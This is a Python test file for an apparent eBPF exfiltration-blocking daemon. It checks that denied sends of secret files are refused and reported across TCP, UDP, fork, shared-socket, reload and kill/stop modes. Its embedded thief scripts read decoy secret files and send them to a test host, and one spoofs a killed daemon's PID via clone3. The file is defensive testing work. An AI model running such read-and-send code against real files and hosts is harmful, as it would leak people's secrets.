#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""Action=deny: not one byte of a secret reaches the listener, the alert says that it was refused, and programs beside
the thief work. What a sensor cannot refuse has an alert that says so."""

import json
import os
import re
import signal
import socket
import subprocess
import sys
import time

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../harness"))

import ctl
import harness
import keeper
import varlink
from cases import Scene, cases
from harness import kernel_version, program, touches, truths
from net import HOST_V4, HOST_V6
from tap import Skip, require, require_equal

CLASS = "test-denied"
# Reads the file, prints its PID, and makes so many connections to the address, each refused or not.
INSISTENT = """
import os, socket, sys
secret = open(sys.argv[1], "rb").read()
print(os.getpid(), flush=True)
sys.stdin.readline()
refused = 0
for _ in range(int(sys.argv[3])):
    with socket.socket() as s:
        try:
            s.connect((sys.argv[2], 443))
            s.sendall(secret)
        except PermissionError:
            refused += 1
print(refused)
"""
# Children that read and connect, each a theft of its own.
MANY = """
import os, socket, sys
refused = 0
for _ in range(int(sys.argv[3])):
    child = os.fork()
    if child == 0:
        secret = open(sys.argv[1], "rb").read()
        s = socket.socket()
        try:
            s.connect((sys.argv[2], 443))
            s.sendall(secret)
        except PermissionError:
            os._exit(1)
        os._exit(0)
    refused += os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
print(refused)
"""
# Reads the file, and connects to the address again and again until that is late; prints for each connection whether it
# was refused, and the least and the most time since the file was read.
LINGERING = """
import socket, sys, time
begun = time.monotonic()
open(sys.argv[1], "rb").read()
read = least = time.monotonic()
while least - read <= float(sys.argv[3]):
    least = time.monotonic()
    refused = False
    with socket.socket() as s:
        try:
            s.connect((sys.argv[2], 443))
        except PermissionError:
            refused = True
    print(refused, least - read, time.monotonic() - begun)
"""
# A child that has the number argv[1] executes the others.
NUMBERED = """
import ctypes, os, signal, struct, sys
number = ctypes.c_int(int(sys.argv[1]))
clone_args = struct.pack("11Q", 0, 0, 0, 0, signal.SIGCHLD, 0, 0, 0, ctypes.addressof(number), 1, 0)
child = ctypes.CDLL(None, use_errno=True).syscall(435, clone_args, len(clone_args))
if child == 0:
    os.execv(sys.argv[2], sys.argv[2:])
if child < 0:
    sys.exit(os.strerror(ctypes.get_errno()))
sys.exit(os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]))
"""
# Connects, reads the file, and sends it; then waits until the connection has tried so often to send it again.
EARLIER = """
import socket, sys
kind, address, path, tries = sys.argv[1:]
family = socket.AF_INET6 if ":" in address else socket.AF_INET
with socket.socket(family, socket.SOCK_STREAM if kind == "tcp" else socket.SOCK_DGRAM) as s:
    s.connect((address, 443))
    secret = open(path, "rb").read()
    try:
        s.sendall(secret)
        print("sent", flush=True)
        # struct tcp_info: tcpi_retransmits, tcpi_probes
        while kind == "tcp" and sum(s.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[2:4]) < int(tries):
            pass
    except PermissionError:
        print("refused", flush=True)
    sys.stdin.readline()
"""
# A child reads the file, and sends it on the socket of its parent, which sends the words on it before and after, and
# prints what of that was refused. Then the same on a connection: the child's only.
SHARED = """
import os, socket, sys
address, path, flags, *words = sys.argv[1:]
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.connect((address, 443))
s.send(words[0].encode())
child = os.fork()
if child == 0:
    secret = open(path, "rb").read()
    try:
        s.send(secret, int(flags))
    except PermissionError:
        os._exit(1)
    os._exit(0)
said = [os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])]
for word in words[1:]:
    try:
        s.send(word.encode())
        said.append(0)
    except PermissionError:
        said.append(1)
print(*said)
"""
FLOOD = 400
LATE_SECONDS = 1
# The kernel's programs count in ticks of 16.8 ms, and round up (bpf/mark/mark.bpf.h mark_live_some()).
ROUNDED_SECONDS = 0.05


class Stage(Scene):
    def __init__(self, net, home):
        super().__init__(net, home)
        self.places = f"{os.fsdecode(home.root)}/denied"
        # An honest program: root's, and allowed.
        self.honest = f"{self.directory}/honest"
        # The hooks of the sensor fentry cannot be attached before 5.19 by a daemon that has dropped its privileges, nor
        # that of the sensor tracepoint.
        self.later = kernel_version() >= (5, 19) and os.environ.get("BW_SENSOR") in ("lsm", "fentry")
        self.write(Action="alert" if self.later else "deny")

    def write(self, enforcement="", **settings):
        settings = {"Action": "deny", **settings}
        self.write_policy(harness.policy_class(CLASS, [f"{self.places}/**"], **settings)
                          + harness.policy_allow("test-honest", self.honest, [CLASS], [f"{HOST_V4}:443"])
                          + "[Correlator]\nRingBuffer=256K\n" + enforcement)

    def load(self, *args, **kwargs):
        self.write(*args, **kwargs)
        require("policy reloaded" in self.bw.reload(), "reload")

    def decoy(self):
        return self.home.decoy(os.path.join(os.fsencode(self.places), b"secret-%d" % time.monotonic_ns()))

    def alert(self, path, **wanted):
        found = self.bw.wait_alert(lambda a: touches(a, path) and all(a[k] == v for k, v in wanted.items()),
                                   f"alert of {path}, {wanted}")
        return found

    def arrived(self, secret):
        """Whether any byte of it did; a later theft that nobody refuses arrives after it."""
        marker, content = self.home.key()
        require_equal(self.net.run([program("technique-out-tcp"), "blocking", marker, HOST_V4, "443"]).returncode, 0,
                      "the marker")
        self.net.sink.wait_arrived(content)
        self.bw.wait_alert(lambda a: touches(a, marker), "the marker's alert")
        return self.net.sink.has(secret[-64:-48])

    def steal(self, name, variant, address=HOST_V4, port=443):
        path, secret = self.decoy()
        result = self.net.run([program(f"technique-{name}"), variant, path, address, str(port)])
        if result.returncode == 77:
            raise Skip(result.stderr.strip(), environment=True)
        return path, secret, result

    def status(self):
        with varlink.Connection(self.socket) as client:
            return client.call("GetStatus")


def refused(stage, name, variant, address=HOST_V4, first=()):
    path, secret, result = stage.steal(name, variant, address)
    require(result.returncode != 0, "the thief did not notice")
    alert = stage.alert(path, action="denied")
    require(not stage.arrived(secret), "the secret arrived")
    require("was refused" in alert["summary"] or "was not allowed" in alert["summary"], alert["summary"])
    others = [a["action"] for a in stage.bw.find(lambda a: touches(a, path))]
    require_equal(set(others) - set(first), {"denied"}, "actions of its alerts")


def existing(stage, variant):
    """A connection that is older than the open. The sensor tracepoint drops what is sent on it: a thief on a connection
    waits then for the other side."""
    sensor = stage.status()["sensor"]
    old = sensor == "fentry" and kernel_version() < (6, 5)
    path, secret = stage.decoy()
    process = stage.net.popen([program("technique-out-existing"), variant, path, HOST_V4, "443"],
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        if old and variant in ("sendfile", "splice"):
            alert = stage.alert(path, action="not-denied")
            stage.net.sink.wait_arrived(secret)
            require("could not be refused" in alert["summary"], alert["summary"])
            require(stage.status()["enforcement"]["not_refused"], "status does not say so")
            return
        stage.alert(path, action="denied")
        require(not stage.arrived(secret), "the secret arrived")
        # There an earlier hook, which cannot refuse it, reports it first.
        actions = {a["action"] for a in stage.bw.find(lambda a: touches(a, path))}
        require_equal(actions - ({"not-denied"} if old else set()), {"denied"}, "actions of its alerts")
    finally:
        process.kill()
        process.communicate()


def start_earlier(stage, kind, address=HOST_V4, tries=2):
    path, secret = stage.decoy()
    process = stage.net.popen([sys.executable, "-c", EARLIER, kind, address, path, str(tries)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    return path, secret, process, process.stdout.readline().strip()


def end_earlier(process):
    process.communicate("\n", timeout=60)


def earlier(stage, kind, address):
    """Not one byte leaves on it, also when the kernel tries again."""
    path, secret, process, said = start_earlier(stage, kind, address)
    dropped = stage.status()["sensor"] == "tracepoint" and kind == "tcp"
    require_equal(said, "sent" if dropped else "refused", "what the thief noticed")
    stage.alert(path, action="denied")
    end_earlier(process)
    require(not stage.arrived(secret), "the secret arrived")


def shared(stage):
    """The datagrams of a process that shares the socket with the thief leave, but none with the secret."""
    for flags in (0, socket.MSG_MORE):
        path, secret = stage.decoy()
        words = [os.urandom(8).hex() for _ in range(3)]
        result = stage.net.run([sys.executable, "-c", SHARED, HOST_V4, path, str(flags), *words])
        stage.alert(path, action="denied")
        if flags and stage.status()["sensor"] == "tracepoint":
            # It sends what the thief has begun.
            require_equal(result.stdout.strip(), "0 1 0", f"refused\n{result.stderr}")
            del words[1]
        else:
            require_equal(result.stdout.strip(), "1 0 0", f"refused\n{result.stderr}")
        for word in words:
            stage.net.sink.wait_arrived(word.encode())
        require(not stage.arrived(secret), "the secret arrived")


def restored(stage):
    """What was refused on a connection leaves if nothing is enforced any more."""
    if stage.status()["sensor"] != "tracepoint":
        raise Skip("there the call has failed")
    stage.load()
    path, secret, process, _ = start_earlier(stage, "tcp", tries=0)
    stage.alert(path, action="denied")
    require(not stage.arrived(secret), "the secret arrived")
    stage.load("[Enforcement]\nEnabled=no\n")
    end_earlier(process)
    stage.net.sink.wait_arrived(secret)


def honest(stage):
    """Beside the thief, which was refused: a program that an [Allow] names, and one that read nothing."""
    subprocess.run(["cp", program("technique-out-tcp"), stage.honest], check=True)
    path, secret = stage.decoy()
    result = stage.net.run([stage.honest, "blocking", path, HOST_V4, "443"])
    require_equal(result.returncode, 0, f"the allowed program\n{result.stderr}")
    stage.net.sink.wait_arrived(secret)
    pid = truths(result.stdout)[0].sender
    stage.bw.expect_no_alert(lambda a: a["process"]["pid"] == pid, stage.net, stage.home, "an allowed program")
    # Elsewhere, it is outside its rule.
    path, secret = stage.decoy()
    require(stage.net.run([stage.honest, "blocking", path, HOST_V6, "443"]).returncode != 0, "it went elsewhere")
    require_equal(stage.alert(path, action="denied")["evidence"], "bound", "evidence")


def insist(stage, path, times=5):
    process = stage.net.popen([sys.executable, "-c", INSISTENT, path, HOST_V4, str(times)], stdin=subprocess.PIPE,
                              stdout=subprocess.PIPE, text=True)
    return process, int(process.stdout.readline())


def finish(process):
    out, _ = process.communicate("\n", timeout=60)
    return int(out)


def repeats(stage):
    before = stage.status()["enforcement"]["denied"]
    path, secret = stage.decoy()
    process, _ = insist(stage, path)
    require_equal(finish(process), 5, "refused of five")
    first = stage.alert(path, action="denied", repeats=0)
    stage.alert(path, id=first["id"], repeats=4)
    require(not stage.arrived(secret), "the secret arrived")
    require_equal(stage.status()["enforcement"]["denied"] - before, 5, "denied, by the status")


def flood(stage):
    """The daemon reads nothing, and the ring is full: what cannot be reported is refused all the same."""
    path, secret = stage.decoy()
    os.kill(stage.bw.pid, signal.SIGSTOP)
    try:
        result = stage.net.run([sys.executable, "-c", MANY, path, HOST_V4, str(FLOOD)])
    finally:
        os.kill(stage.bw.pid, signal.SIGCONT)
    require_equal(result.stdout.strip(), str(FLOOD), f"refused\n{result.stderr}")
    stage.alert(path, action="denied")
    require(not stage.arrived(secret), "the secret arrived")


def under_reload(stage):
    path, secret = stage.decoy()
    process = stage.net.popen([sys.executable, "-c", MANY, path, HOST_V4, str(FLOOD)], stdout=subprocess.PIPE,
                              text=True)
    while process.poll() is None:
        stage.load()
    require_equal(process.stdout.read().strip(), str(FLOOD), "refused")
    require(not stage.arrived(secret), "the secret arrived")


def dry_run(stage):
    stage.load("[Enforcement]\nEnabled=dry-run\n")
    path, secret, result = stage.steal("out-tcp", "blocking")
    require_equal(result.returncode, 0, f"the theft's exit status\n{result.stderr}")
    stage.net.sink.wait_arrived(secret)
    require("dry-run" in stage.alert(path, action="would-deny")["summary"], "summary")
    path, secret, _ = stage.steal("out-existing", "write")
    stage.net.sink.wait_arrived(secret)
    stage.alert(path, action="would-deny")
    state = stage.status()["enforcement"]
    require(state["mode"] == "dry-run" and state["would_deny"] >= 1, state)


def disabled(stage):
    stage.load("[Enforcement]\nEnabled=no\n")
    path, secret, result = stage.steal("out-tcp", "blocking")
    require_equal(result.returncode, 0, f"the theft's exit status\n{result.stderr}")
    stage.net.sink.wait_arrived(secret)
    stage.alert(path, action="alert")
    require_equal(stage.status()["enforcement"]["mode"], "off", "mode")


def never_exe(stage):
    """An executable that Never= names; another is refused."""
    thief = f"{stage.directory}/never"
    subprocess.run(["cp", program("technique-out-tcp"), thief], check=True)
    stage.load(f"[Enforcement]\nNever={thief}\n")
    path, secret = stage.decoy()
    result = stage.net.run([thief, "blocking", path, HOST_V4, "443"])
    require_equal(result.returncode, 0, f"its exit status\n{result.stderr}")
    stage.net.sink.wait_arrived(secret)
    stage.alert(path, action="alert")
    refused(stage, "out-tcp", "blocking")


def never_reloaded(stage):
    """The policy changes after a process has read the file: what Never= names when it sends counts."""
    interpreter = os.path.realpath(sys.executable)
    for before, after, wanted in (("", interpreter, 0), (interpreter, "", 2), (interpreter, "/usr/bin/other", 2)):
        stage.load(f"[Enforcement]\nNever={before}\n")
        path, _ = stage.decoy()
        process, _ = insist(stage, path, 2)
        stage.load(f"[Enforcement]\nNever={after}\n")
        require_equal(finish(process), wanted, f"refused, after Never={before} had become Never={after}")
        stage.alert(path, action="denied" if wanted else "alert")


def hops(stage):
    """ActionHops=: after more hand-overs egress is only reported. A fork is none."""
    receiver = ("import socket, sys\ndata = sys.stdin.buffer.read()\n"
                "socket.create_connection((sys.argv[1], 443)).sendall(data)")
    for most, action in (("0", "alert"), ("1", "denied")):
        stage.load(ActionHops=most)
        path, _ = stage.decoy()
        result = stage.net.run(["sh", "-c", 'cat "$0" | "$@"', path, sys.executable, "-c", receiver, HOST_V4])
        require_equal(result.returncode == 0, action == "alert", f"ActionHops={most}: {result.stderr}")
        require_equal(stage.alert(path)["action"], action, f"ActionHops={most}")
        refused(stage, "out-tcp", "blocking")


def number_reused(net, home):
    """A thief that gets the number of a daemon that was killed is not taken for it."""
    stage = Stage(net, home)
    stage.write()
    with keeper.Manager(stage.directory) as manager, stage.bw:
        stage.bw.kill()
        require(manager.kept, "nothing was kept")
        path, _ = stage.decoy()
        result = net.run([sys.executable, "-c", NUMBERED, str(stage.bw.pid), program("technique-out-tcp"), "blocking",
                          path, HOST_V4, "443"])
        _, secret, process, _ = start_earlier(stage, "tcp")
        end_earlier(process)
        marker, content = home.key()
        net.run([program("technique-out-tcp"), "blocking", marker, HOST_V4, "443"])
        net.sink.wait_arrived(content)
    require("Operation not permitted" in result.stderr, f"{result}")
    require(not net.sink.has(secret[-64:-48]), "the secret arrived on an earlier connection")


def signalled(stage, action, done):
    """The thief gets a signal with the refusal, if the kernel can send it."""
    stage.load(Action=action)
    signals = not any("neither stopped" in what for what in stage.status()["enforcement"]["not_refused"])
    path, secret = stage.decoy()
    process, _ = insist(stage, path, 2)
    process.stdin.write("\n")
    process.stdin.flush()
    if not signals:
        require_equal(finish(process), 2, "refused")
        stage.alert(path, action="denied")
    elif action == "kill":
        _, status = os.waitpid(process.pid, os.WUNTRACED)
        require(os.WIFSIGNALED(status) and os.WTERMSIG(status) == signal.SIGKILL, f"status {status}")
        require_equal(process.stdout.read(), "", "what it did afterwards")
        stage.alert(path, action=done)
    else:
        for _ in range(2):
            _, status = os.waitpid(process.pid, os.WUNTRACED)
            require(os.WIFSTOPPED(status) and os.WSTOPSIG(status) == signal.SIGSTOP, f"status {status}")
            # With its memory: the secret is there.
            with open(f"/proc/{process.pid}/status", encoding="ascii") as state:
                require("T (stopped)" in state.read(), "its state")
            require("and was stopped" in stage.alert(path, action=done)["summary"], "summary")
            process.send_signal(signal.SIGCONT)
        require_equal(finish(process), 2, "refused")
    require(not stage.arrived(secret), "the secret arrived")


def killed_earlier(stage):
    """Before its next instruction, though the call has not failed."""
    stage.load(Action="kill")
    signals = not any("neither stopped" in what for what in stage.status()["enforcement"]["not_refused"])
    path, secret, process, said = start_earlier(stage, "tcp")
    stage.alert(path, action="killed" if signals else "denied")
    if signals:
        require_equal((said, process.wait(timeout=60)), ("", -signal.SIGKILL), "what it did afterwards")
    end_earlier(process)
    require(not stage.arrived(secret), "the secret arrived")


def never_unit(stage):
    cgroup = f"{harness.cgroup2()}/never-{os.getpid()}.service"
    stage.load("[Enforcement]\nNever=never-*.service\n")
    os.mkdir(cgroup)
    try:
        path, secret = stage.decoy()
        result = stage.net.run(["sh", "-c", 'echo $$ >"$0/cgroup.procs" && exec "$@"', cgroup,
                                program("technique-out-tcp"), "blocking", path, HOST_V4, "443"])
        require_equal(result.returncode, 0, f"its exit status\n{result.stderr}")
        stage.net.sink.wait_arrived(secret)
        stage.alert(path, action="alert")
        refused(stage, "out-tcp", "blocking")
    finally:
        os.rmdir(cgroup)


def late(stage):
    """After Window= nothing is refused. On a busy machine the first connection may be late already."""
    stage.load(Window=f"{LATE_SECONDS}s", LateWindow="1h")
    fresh = False
    while not fresh:
        path, _ = stage.decoy()
        result = stage.net.run([sys.executable, "-c", LINGERING, path, HOST_V4, str(LATE_SECONDS + ROUNDED_SECONDS)])
        for line in result.stdout.splitlines():
            refused_it, least, most = line.split()
            if float(most) <= LATE_SECONDS:
                fresh = True
                require_equal(refused_it, "True", f"refused after at most {most} s")
            elif float(least) > LATE_SECONDS + ROUNDED_SECONDS:
                require_equal(refused_it, "False", f"refused after at least {least} s")
    stage.alert(path, action="denied")
    require_equal(stage.alert(path, action="alert")["evidence"], "late", "evidence")


def shown_by_client(stage):
    """What the client shows."""
    stage.load()
    path, _, _ = stage.steal("out-tcp", "blocking")
    stage.alert(path, action="denied")
    def client(*args):
        return subprocess.run([ctl.CTL, f"--socket={stage.socket}", "--no-pager", *args], text=True,
                              capture_output=True, check=False, stdin=subprocess.DEVNULL).stdout
    shown = [json.loads(line) for line in client("--json=short", "alerts", "--all", "--action=denied").splitlines()]
    require(shown and {a["action"] for a in shown} == {"denied"} and any(touches(a, path) for a in shown), f"{shown}")
    require(not any(touches(json.loads(line), path) for line in
                    client("--json=short", "alerts", "--all", "--action=would-deny").splitlines()), "another action")
    require(re.search(r"Enforcement: ● on, 1 classes; [1-9][0-9]* denied", client("status")), client("status"))
    selftest = json.loads(client("--json=short", "selftest"))
    require_equal(selftest["action"], "denied", "the selftest's theft")
    require("action" in client("show", next(a for a in shown if touches(a, path))["id"]), "show")
    explained = client("explain", os.fsdecode(path), "--exe=/usr/bin/cat", f"--policy-dir={stage.policy}")
    require(", refused" in explained, explained)


def main():
    with cases() as (t, net, home):
        stage = Stage(net, home)
        with stage.bw:
            if stage.later:
                t.setup("it begins at a reload", stage.load)
            for what, address in (("v4", HOST_V4), ("v6", HOST_V6), ("IPv4-mapped", "::ffff:" + HOST_V4)):
                for variant in ("blocking", "nonblocking"):
                    t.case(f"TCP {what} {variant}", refused, stage, "out-tcp", variant, address)
                for variant in ("connected", "sendto", "sendmsg", "sendmmsg"):
                    t.case(f"UDP {what} {variant}", refused, stage, "out-udp", variant, address)
            t.case("programs beside it", honest, stage)
            for variant in ("write", "send", "sendmsg", "sendfile", "splice", "udp"):
                t.case(f"on a connection that existed before: {variant}", existing, stage, variant)
            for kind, address in (("tcp", HOST_V4), ("tcp", HOST_V6), ("tcp", "::ffff:" + HOST_V4), ("udp", HOST_V6)):
                t.case(f"sent again, on an earlier connection, {kind} to {address}", earlier, stage, kind, address)
            t.case("a socket that an honest process has, too", shared, stage)
            t.case("repeats are refused, and counted", repeats, stage)
            t.case("a full ring, and a daemon that does not read", flood, stage)
            t.case("the policy is reloaded meanwhile", under_reload, stage)
            t.case("late evidence is not refused", late, stage)
            t.case("ActionHops=", hops, stage)
            t.case("Action=stop", signalled, stage, "stop", "stopped")
            t.case("Action=kill", signalled, stage, "kill", "killed")
            t.case("Action=kill, on an earlier connection", killed_earlier, stage)
            t.case("Never= an executable", never_exe, stage)
            t.case("Never= is judged again after a reload", never_reloaded, stage)
            t.case("Never= a unit", never_unit, stage)
            t.case("Enabled=dry-run", dry_run, stage)
            t.case("Enabled=no", disabled, stage)
            t.case("an earlier connection, when nothing is enforced any more", restored, stage)
            t.case("barbwire.enforce=0", rescued, stage)
            t.case("the client", shown_by_client, stage)
            t.case("ends without loss", ended, stage)
        t.case("the number of a daemon that was killed", number_reused, net, home)


def rescued(stage):
    """The kernel was started with barbwire.enforce=0: a policy that denies is valid, and denies nothing."""
    stage.write()
    command_line = f"{stage.directory}/cmdline"
    with open(command_line, "w", encoding="ascii") as out:
        out.write("root=/dev/vda1 barbwire.enforce=0 quiet\n")
    check = ["unshare", "--mount", "sh", "-c", 'mount --bind "$0" /proc/cmdline && exec "$@"', command_line,
             harness.BARBWIRED, "--check", f"--policy-dir={stage.policy}"]
    said = subprocess.run(check, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True).stderr
    require("started with barbwire.enforce=0" in said, said)
    said = subprocess.run(check[6:], stdin=subprocess.DEVNULL, capture_output=True, text=True, check=True).stderr
    require("enforce=0" not in said, said)


def ended(stage):
    stage.bw.stop()
    stage.bw.require_no_loss(("ring_full", "draft_busy", "repeat_gone", *harness.preemption_losses()))


if __name__ == "__main__":
    main()
